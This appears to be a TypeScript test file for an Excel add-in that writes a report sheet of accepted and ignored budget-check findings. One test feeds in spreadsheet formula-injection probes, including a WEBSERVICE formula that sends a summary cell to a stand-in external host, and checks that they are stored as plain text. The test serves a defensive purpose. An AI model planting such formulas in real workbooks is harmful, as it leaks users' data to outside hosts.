import { decide, DecidedFinding, Finding } from "../../src/berap";
import { writeReportSheet } from "../../src/workbook/officeReport";
import {
  DECIDED_HEADER,
  DECIDED_TITLE,
  REPORT_HEADER,
  reportPresentation,
  ruleName,
} from "../../src/workbook/reportRows";
import { FakeContext } from "../support/fakeExcel";

/*
 * The pane's "Rapport op nieuw blad" with the accepted and ignored findings apart, through the strict fake of
 * Excel, whose `values` behave as typing does ("=...", and "+", "-", "@" before a word become formulas unless
 * the cell is Text or the value starts with an apostrophe). Figures by hand: the example's fout on
 * Begroting D24 (438 staat er, 436 volgt: verschil 2) and an afrondingsverschil of 0,1% (7,2% against 7,1%).
 */
const HOSTILE_SHEET = '=HYPERLINK("http://x";"y")\'s blad';
const HOSTILE_REASONS = [
  '=WEBSERVICE("https://voorbeeld.invalid/?"&ENCODEURL(Samenvatting!B5))',
  "+1+1",
  "-Inhuur personeel",
  "@SOM(A1:A3)",
  "2025",
];
const DAY = "2026-11-25";

function finding(over: Partial<Finding>): Finding {
  return {
    regel: "lijst-totaal",
    ernst: "fout",
    blad: "Begroting",
    cel: "D24",
    bericht: "438 staat er, 436 volgt uit de tabel (verschil 2).",
    verwacht: 436,
    gevonden: 438,
    ...over,
  };
}

function decided(f: Finding, besluit: "geaccepteerd" | "genegeerd", reden: string): DecidedFinding {
  return { bevinding: f, besluit: decide(f, besluit, reden, DAY) };
}

const presentation = reportPresentation((_blad, cel) => (cel === "B8" ? "0.0%" : "#,##0"));

async function write(findings: Finding[], besloten?: DecidedFinding[]) {
  const ctx = new FakeContext();
  ctx.addSheet("Begroting");
  ctx.addSheet(HOSTILE_SHEET);
  const name = await writeReportSheet(ctx.excel, findings, presentation, besloten);
  return ctx.sheets.find((s) => s.name === name)!;
}

describe("report sheet: accepted and ignored findings apart", () => {
  it("without decided findings the report is as before: eight columns, no section", async () => {
    const sheet = await write([finding({})]);
    expect(sheet.filledCells().every(([, c]) => c < REPORT_HEADER.length)).toBe(true);
    expect(sheet.filledCells().some(([, , cell]) => cell.value === DECIDED_TITLE)).toBe(false);
  });

  it("puts them after the open findings, with Besluit, Reden, Datum, linked, figures in their format", async () => {
    const open = finding({ regel: "percentages", ernst: "waarschuwing", blad: "Personeel" });
    const fout = finding({});
    const rounding = finding({
      regel: "percentages",
      ernst: "waarschuwing",
      blad: "Personeel",
      cel: "B8",
      bericht: "7,2% staat er, 7,1% volgt uit de tabel (afrondingsverschil).",
      verwacht: 0.071,
      gevonden: 0.072,
    });
    const sheet = await write(
      [open],
      [decided(fout, "genegeerd", "toegelicht in de memo"), decided(rounding, "geaccepteerd", "")]
    );
    const row = (r: number) => DECIDED_HEADER.map((_, c) => sheet.cell(r, c).value);
    // Row 0 header, row 1 the open finding, row 2 empty, row 3 the title, row 4 its header, rows 5-6 decided.
    expect(row(0).slice(0, 8)).toEqual([...REPORT_HEADER]);
    expect(row(2).every((v) => v === "")).toBe(true);
    expect(sheet.cell(3, 0).value).toBe(DECIDED_TITLE);
    expect(row(4)).toEqual([...DECIDED_HEADER]);
    expect(row(5)).toEqual([
      "Fout",
      "Begroting",
      "D24",
      fout.bericht,
      436,
      438,
      ruleName("lijst-totaal"),
      2,
      "Genegeerd",
      "toegelicht in de memo",
      DAY,
    ]);
    // Figures (verwacht, er staat, verschil) in the cell's format; every other cell Text.
    const formats = DECIDED_HEADER.map((_, c) => sheet.cell(5, c).numFmt);
    expect(formats).toHaveLength(11);
    expect(formats.flatMap((f, c) => (f === "@" ? [] : [[c, f]]))).toEqual([
      [4, "#,##0"],
      [5, "#,##0"],
      [7, "#,##0"],
    ]);
    // 7,2% - 7,1% = 0,1%: the percentage keeps its format.
    expect([4, 5, 7].map((c) => [sheet.cell(6, c).value, sheet.cell(6, c).numFmt])).toEqual([
      [0.071, "0.0%"],
      [0.072, "0.0%"],
      [0.001, "0.0%"],
    ]);
    expect(row(6).slice(8)).toEqual(["Geaccepteerd", "", DAY]);
    expect(sheet.cell(5, 2).hyperlink).toEqual({
      documentReference: "'Begroting'!D24",
      textToDisplay: "D24",
      screenTip: "Ga naar Begroting D24",
    });
    expect(sheet.cell(1, 2).hyperlink?.documentReference).toBe("'Personeel'!D24");
    expect(sheet.frozenRows).toBe(1);
  });

  it("writes a hostile sheet name and hostile reasons as text, never as a formula", async () => {
    const onHostile = finding({ blad: HOSTILE_SHEET });
    const besloten = HOSTILE_REASONS.map((reden, i) =>
      decided(i === 0 ? onHostile : finding({ cel: `D${30 + i}` }), "genegeerd", reden)
    );
    const sheet = await write([], besloten);
    expect(sheet.filledCells().filter(([, , cell]) => cell.formula !== undefined)).toEqual([]);
    // Row 0 header, 1 empty, 2 title, 3 header, then one row per decision in the given order.
    HOSTILE_REASONS.forEach((reden, i) => {
      expect(sheet.cell(4 + i, 9).value).toBe(reden);
      expect(sheet.cell(4 + i, 9).numFmt).toBe("@");
    });
    expect(sheet.cell(4, 1).value).toBe(HOSTILE_SHEET);
    expect(sheet.cell(4, 2).hyperlink?.documentReference).toBe(
      `'=HYPERLINK("http://x";"y")''s blad'!D24`
    );
  });
});
